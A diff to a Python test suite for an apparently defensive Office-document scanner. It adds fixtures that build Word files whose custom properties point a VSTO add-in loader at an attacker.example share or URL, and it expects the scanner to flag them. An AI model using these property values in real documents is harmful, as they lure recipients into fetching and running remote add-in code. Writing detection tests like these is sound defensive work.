@@ -95,6 +95,32 @@ def _hyperlink_base(base: str) -> bytes:
     return _replaced(letter, {"_rels/.rels": root, "docProps/app.xml": app})
 
 
+CUSTOM = "http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"
+TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"
+
+
+def _custom_properties(properties: dict[str, str]) -> bytes:
+    """A letter whose custom document properties (``docProps/custom.xml``) are ``properties``,
+    as Word writes them."""
+    listed = "".join(
+        f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="{pid}" '
+        f"name={quoteattr(name)}><vt:lpwstr>{escape(value)}</vt:lpwstr></property>"
+        for pid, (name, value) in enumerate(properties.items(), 2)
+    )
+    custom = (
+        f'<?xml version="1.0"?><Properties xmlns="{CUSTOM}" xmlns:vt="{TYPES}">{listed}'
+        "</Properties>"
+    ).encode()
+    root = rels_xml([("officeDocument", "word/document.xml", False),
+                     ("custom-properties", "docProps/custom.xml", False)])  # fmt: skip
+    return _replaced(docx("<w:p/>"), {"_rels/.rels": root, "docProps/custom.xml": custom})
+
+
+_GUID = "|4b5a1d3c-2f6e-4a7b-9c8d-0e1f2a3b4c5d"
+# what a VSTO customisation sets: the loader's class and the manifest's place
+_LOADER = {"_AssemblyName": "4E3C66D5-58D4-491E-A7D4-64AF99AF6E8B"}
+
+
 def _svg_picture(inner: str) -> bytes:
     """A letter whose picture is an SVG part (as Office 365 stores one) holding ``inner``."""
     svg = (
@@ -259,6 +285,17 @@ BASES: list[Case] = [
     ("hyperlink-base-empty", DOC, partial(_hyperlink_base, ""), False),
     ("rtf-hyperlink-base-url", RTF,
      partial(_rtf, rb"{\info{\*\hlinkbase https://intranet.example/docs/}}"), False),
+    # a VSTO customisation: Office fetches its manifest and offers to run the add-in (red
+    # team 114), from a share, a URL or beside the file; the name in any case, as Office
+    ("vsto-on-a-share", DOC, partial(_custom_properties, {
+        **_LOADER, "_AssemblyLocation": "\\\\attacker.example\\s\\Invoice.vsto" + _GUID}), True),
+    ("vsto-at-a-url", DOC, partial(_custom_properties, {
+        **_LOADER, "_assemblylocation": "https://attacker.example/Invoice.vsto" + _GUID}), True),
+    ("vsto-beside-the-file", DOC, partial(_custom_properties, {
+        **_LOADER, "_AssemblyLocation": "Invoice.vsto" + _GUID + "|vstolocal"}), True),
+    # an author's own properties, one naming a share
+    ("custom-properties-of-the-author", DOC, partial(_custom_properties, {
+        "Client": "\\\\files.example\\clients\\", "AssemblyLocation": "Hall B"}), False),
 ]  # fmt: skip
 
 _UDL = "Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\s\\list.xlsx"
@@ -340,7 +377,7 @@ def test_what_the_findings_say(policy: Policy) -> None:
     """Where each finding points, without the file's own text (the address stays out)."""
     said = {}
     for case_id in ("webservice-url", "vml-comment-fill-share", "svg-image-href-share",
-                    "hyperlink-base-share", "rd-on-a-share"):  # fmt: skip
+                    "hyperlink-base-share", "rd-on-a-share", "vsto-on-a-share"):  # fmt: skip
         case = next(c for c in CASES if c[0] == case_id)
         [found] = _engine_scan(case, policy).findings
         assert "attacker" not in repr(found)
@@ -351,6 +388,7 @@ def test_what_the_findings_say(policy: Policy) -> None:
         "svg-image-href-share": ("word/media/image1.svg", "svg"),
         "hyperlink-base-share": ("docProps/app.xml", "hyperlinkBase"),
         "rd-on-a-share": ("word/document.xml", "RD"),
+        "vsto-on-a-share": ("docProps/custom.xml", "_AssemblyLocation"),
     }
 
 
